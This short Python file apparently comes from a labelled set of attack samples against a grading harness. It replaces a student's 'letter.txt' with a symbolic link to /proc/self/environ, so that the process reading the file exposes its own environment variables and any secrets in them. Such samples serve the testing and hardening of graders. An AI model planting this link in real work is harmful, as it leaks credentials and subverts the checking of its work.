"""Writes a symbolic link to a secret where a test reads the student's file.

class: files
lab: handed
where: q1_letter
honest: 1
"""

import os

# A link says nothing about who reads it: this is the environment of the process that opens it.
os.unlink("letter.txt")
os.symlink("/proc/self/environ", "letter.txt")
